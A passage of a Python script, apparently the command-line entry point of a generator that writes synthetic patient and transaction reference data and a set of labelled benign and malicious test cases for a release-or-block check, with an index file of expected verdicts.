    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out", nargs="?")
    ap.add_argument("--list", action="store_true")
    ap.add_argument("--big-csv", nargs=2, metavar=("FILE", "MB"))
    a = ap.parse_args()
    if a.list:
        sys.stdout.write(list_cases())
        return 0
    if a.big_csv:
        big_csv(a.big_csv[0], int(a.big_csv[1]))
        return 0
    if not a.out:
        ap.error("OUT_DIR is required")
    patients, tx = make_reference(os.path.join(a.out, "reference"))
    index = []
    for name, verdict, desc, fn in CASES:
        d = os.path.join(a.out, "cases", name)
        os.makedirs(d, exist_ok=True)
        fn(patients, tx, d)
        index.append({"name": name, "expected": verdict, "description": desc})
    with open(os.path.join(a.out, "cases.json"), "w") as f:
        json.dump(index, f, indent=1)
    benign = sum(1 for c in index if c["expected"] == "release")
    print(f"generated {len(index)} cases ({benign} benign, {len(index) - benign} malicious) in {a.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
